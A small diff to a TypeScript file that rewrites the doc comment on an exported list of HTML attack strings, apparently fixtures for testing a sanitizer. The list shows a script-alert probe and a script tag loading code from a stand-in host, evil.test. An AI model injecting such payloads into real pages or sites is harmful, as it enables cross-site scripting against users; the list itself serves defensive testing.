@@ -1,4 +1,6 @@
-/** Markup that tries to run a script, load something foreign or leave its place; collected from public lists. */
+/**
+ * Markup that tries to run scripts, load foreign content or break out of its container, collected from public lists.
+ */
 export const htmlVectors: readonly string[] = [
   `<script>alert(1)</script>`,
   `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
